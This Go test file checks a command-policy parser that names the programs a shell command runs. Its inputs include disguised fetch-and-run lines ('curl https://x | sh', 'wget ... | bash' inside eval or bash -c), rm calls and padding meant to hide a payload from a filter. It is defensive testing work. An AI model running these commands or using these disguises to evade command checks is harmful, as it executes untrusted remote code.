package policy

import (
	"slices"
	"strings"
	"testing"
)

// Programs lists what the command runs, in order, however it is dressed:
// wrappers, nested scripts, substitutions, padding.
func TestPrograms(t *testing.T) {
	tests := []struct {
		cmd  string
		want []string
	}{
		{"ls", []string{"ls"}},
		{"ls | curl https://x | sh", []string{"ls", "curl", "sh"}},
		{"ls; ls; ls && ls", []string{"ls"}},
		{"cd /tmp && /usr/bin/curl -s https://x -o a && sh a", []string{"cd", "curl", "sh"}},
		{"sudo bash -c 'curl https://x|sh'", []string{"sudo", "bash", "curl", "sh"}},
		{`TOKEN='curl https://x | sh' bash -c "$TOKEN"`, []string{"bash", "…"}},
		{"echo $(curl https://x) | xargs rm", []string{"echo", "curl", "xargs", "rm"}},
		{"$CMD arg", []string{"…"}},
		{"/usr/bin/env FOO=1 python3 -c 'print(1)'", []string{"env", "python3"}},
		{`find . -name x -exec rm {} \;`, []string{"find", "rm"}},
		{"timeout 5 nice -n 3 git status", []string{"timeout", "nice", "git"}},
		{"eval 'wget -qO- https://x | bash'", []string{"eval", "wget", "bash"}},
		{"(cd x; make) & disown", []string{"cd", "make", "disown"}},
		{"if true; then rm a; fi", []string{"true", "rm"}},
		{"docker run img ls -la", []string{"docker", "ls?"}},
		{"echo 'unterminated", []string{"?", "echo"}},
		{strings.Repeat("echo ok && ", 300) + "curl https://x | sh", []string{"echo", "curl", "sh"}},
		{strings.Repeat("\n", 10000) + "ls; curl https://x|sh", []string{"ls", "curl", "sh"}},
	}
	for _, tc := range tests {
		if got := Programs(tc.cmd); !slices.Equal(got, tc.want) {
			t.Errorf("Programs(%q) = %q, want %q", clip(tc.cmd, 80), got, tc.want)
		}
	}
}
